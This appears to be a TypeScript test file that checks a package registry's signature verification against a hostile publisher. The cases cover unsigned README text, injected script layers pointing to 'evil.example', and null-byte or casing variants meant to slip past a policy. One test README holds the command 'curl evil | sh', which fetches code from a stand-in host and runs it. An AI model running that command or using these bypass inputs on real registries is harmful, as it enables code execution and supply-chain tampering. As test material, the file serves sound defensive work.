import type { BundleList } from '@krmhub/api/model';
import { bundleManifest, computeDigest, MEDIA_TYPES, type OciDigest, VERSION } from '@krmhub/oci';
import { sha256 } from '@krmhub/schema';
import { defined } from '@krmhub/schema/defined';
import { releaseStatement } from '@krmhub/signing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { definitionArtifact, manifestDigest, testClient } from '../testing/oci.js';
import { createStatement, newKey, policy, signedBy } from '../testing/signing.js';
import {
  definitionText,
  openTestRegistry,
  releasePath,
  type TestRegistry,
} from '../testing/test-registry.js';

/** Attacks on signatures by a publisher with a token, sometimes with a key. */

let registry: TestRegistry;
const client = testClient(() => registry);
beforeEach(async () => {
  registry = await openTestRegistry();
});
afterEach(() => registry.close());

const KIND = 'SetLabels';
const REPOSITORY = 'functions/example.com/setlabels';
const named = (release: string) => ({ kind: KIND, release });
const apply = async (text: string) => {
  const { status, body } = await registry.send('PUT', '/api/v1/policies', text);
  expect(status, JSON.stringify(body)).toBe(200);
};
const publish = (release: string, bundles: readonly Uint8Array[] = [], readme?: string) =>
  registry.publish(named(release), '', { bundles, ...defined({ readme }) });
const attach = (release: string, bundle: Uint8Array) => registry.attach(named(release), bundle);
const verdict = async (release: string) =>
  (await registry.send<BundleList>('GET', `${releasePath(named(release))}/bundles`)).body;

async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDigest> {
  await client.blob(REPOSITORY, '{}');
  await client.blob(REPOSITORY, Buffer.from(bundle).toString('utf8'));
  const manifest = bundleManifest({
    subject: { mediaType: MEDIA_TYPES.image, digest: subject, size: 1000 },
    bundle: { digest: computeDigest(bundle), size: bundle.byteLength },
    predicateType: 'https://example.com/',
    created: '2030-01-02T03:04:05Z',
  });
  await client.put(REPOSITORY, manifest.digest, Buffer.from(manifest.bytes).toString('utf8'), {
    type: MEDIA_TYPES.image,
  });
  return manifest.digest;
}

describe('a hostile publisher', () => {
  it('a token without a key cannot prevent a release from being signed again', {
    timeout: 60_000,
  }, async () => {
    const [stolen, fresh] = [newKey(), newKey()];
    await apply(policy([stolen, fresh]));
    const bundle = await signedBy(stolen, createStatement(named('1.0.0')));
    await publish('1.0.0', [bundle]);
    for (let at = 1; at < 64; at++) await attach('1.0.0', Buffer.concat([bundle, Buffer.alloc(at, ' ')]));
    const last = await attach('1.0.0', await signedBy(fresh, createStatement(named('1.0.0'))));
    expect(last.body).toMatchObject({ signature: { trusted: true } });
    expect(last.status).toBe(200);
  });

  it('the signature does not cover a README that the publisher did not sign', async () => {
    const key = newKey();
    await apply(policy([key]));
    const bundle = await signedBy(key, createStatement(named('1.0.0'), { readme: '# good' }));
    expect((await publish('1.0.0', [bundle], '# run: curl evil | sh')).status).not.toBe(201);
  });

  it('a manifest that the publisher did not sign is not published under the signature', async () => {
    const key = newKey();
    await apply(policy([key]));
    const text = definitionText({ kind: KIND, release: '1.0.0' });
    const evil = JSON.parse(
      JSON.stringify(
        definitionArtifact(text, {
          annotations: { [VERSION]: '1.0.0', 'org.opencontainers.image.source': 'https://evil.example' },
        }),
      ),
    );
    const extra = 'a script of the attacker';
    evil.layers.push({
      mediaType: 'application/x-sh',
      digest: computeDigest(Buffer.from(extra)),
      size: extra.length,
    });
    await client.blob(REPOSITORY, '{}');
    await client.blob(REPOSITORY, text);
    await client.blob(REPOSITORY, extra);
    await client.put(REPOSITORY, manifestDigest(evil), evil);
    await pushBundle(await signedBy(key, createStatement(named('1.0.0'))), manifestDigest(evil));
    const response = await client.put(REPOSITORY, '1.0.0', evil);
    expect([response.status, response.status === 201 ? (await verdict('1.0.0')).signature : '']).not.toEqual([
      201,
      expect.objectContaining({ trusted: true }),
    ]);
  });

  it('a bundle of a manifest with two tags is evidence of the release that it names', async () => {
    const key = newKey();
    const text = definitionText({ kind: KIND, release: '1.0.0' });
    const manifest = definitionArtifact(text, {});
    await client.blob(REPOSITORY, '{}');
    await client.blob(REPOSITORY, text);
    expect((await client.put(REPOSITORY, '1.0.0', manifest)).status).toBe(201);
    expect((await client.put(REPOSITORY, '1.0.1', manifest)).status).toBe(201);
    const claim = releaseStatement(
      { group: 'example.com', kind: KIND, release: '1.0.1' },
      { definition: sha256(text), manifest: manifestDigest(manifest) },
    );
    await pushBundle(await signedBy(key, claim), manifestDigest(manifest));
    expect((await verdict('1.0.1')).bundles).toHaveLength(1);
  });

  it('spellings, cases and pre-releases do not bypass a policy', async () => {
    const key = newKey();
    await apply(policy([key]));
    const out: unknown[] = [];
    for (const release of [
      'v1.0',
      '1',
      '1.0.0-rc.1',
      '99999999999999999999.0.0',
      '01.0.0',
      '1.0.0%2Bbuild',
    ]) {
      for (const group of ['example.com', 'Example.com', 'example.com.', 'example.com%00']) {
        const text = definitionText({ kind: KIND, release: '1.0.0' });
        const target = `/api/v1/functions/${group}/${KIND}/releases/${release}`;
        const response = await registry.send('PUT', target, text);
        out.push([release, group, response.status]);
      }
    }
    expect(out.filter((one) => (one as [string, string, number])[2] === 201)).toEqual([]);
    const text = definitionText({ kind: KIND, release: '1.0.0' });
    for (const kind of ['setlabels', 'SetLabels', 'SETLABELS'])
      for (const tag of ['1.0.0', 'v1.0.0', 'v1', '1', 'latest', '1.0.0-rc.1']) {
        const repository = `functions/example.com/${kind}`;
        const manifest = definitionArtifact(text, { annotations: { [VERSION]: tag } });
        await client.blob(repository, '{}').catch(() => {});
        await client.blob(repository, text).catch(() => {});
        const a = await client.put(repository, tag, manifest);
        const b = await client.put(repository, `${manifestDigest(manifest)}?tag=${tag}`, manifest);
        const index = { schemaVersion: 2, mediaType: MEDIA_TYPES.index, manifests: [] };
        const c = await client.put(repository, tag, index);
        expect(
          [a.status, b.status, c.status].every((one) => one >= 400),
          `${kind} ${tag} ${a.status} ${b.status} ${c.status}`,
        ).toBe(true);
      }
  });

  it('evidence survives untagged collection and deletes of manifests and blobs', async () => {
    const key = newKey();
    await apply(policy([key]));
    await publish('1.0.0', [await signedBy(key, createStatement(named('1.0.0')))]);
    const { bundles } = await verdict('1.0.0');
    (registry.parts.config as { untaggedDays?: number }).untaggedDays = 1;
    registry.advance(10 * 86_400_000);
    await registry.parts.collector.collect();
    const bytes = await registry.request(
      `${releasePath({ kind: KIND, release: '1.0.0' })}/bundles/${bundles[0]!.digest}`,
    );
    expect(bytes.status).toBe(200);
    expect(
      (await client.request('DELETE', `${REPOSITORY}/blobs/${bundles[0]!.digest}`)).status,
    ).toBeGreaterThanOrEqual(400);
    expect(
      (await client.request('DELETE', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status,
    ).toBeGreaterThanOrEqual(400);
    expect((await client.request('DELETE', `${REPOSITORY}/manifests/1.0.0`)).status).toBeGreaterThanOrEqual(
      400,
    );
    // Adds an alias tag to the evidence, then deletes by tag.
    const alias = `sha256-${bundles[0]!.manifest.slice(7)}`;
    const stored = await client.request('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`);
    const text = await stored.text();
    await client.put(REPOSITORY, alias, text, { type: MEDIA_TYPES.image });
    await client.request('DELETE', `${REPOSITORY}/manifests/${alias}`);
    expect((await client.request('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status).toBe(200);
  });

  it('attached bundles count against the quota of the repository', async () => {
    const key = newKey();
    expect((await publish('1.0.0')).status).toBe(201);
    (registry.parts.config as Record<string, unknown>).repositoryMebibytes = 2;
    let storedBundles = 0;
    for (let at = 0; at < 5; at++) {
      const bundle = await signedBy(key, {
        ...createStatement(named('1.0.0')),
        predicateType: `https://x/${at}`,
        predicate: { text: 'x'.repeat(700_000) },
      });
      if ((await attach('1.0.0', bundle)).status === 200) storedBundles += 1;
    }
    expect(storedBundles).toBeLessThan(5);
  });
});
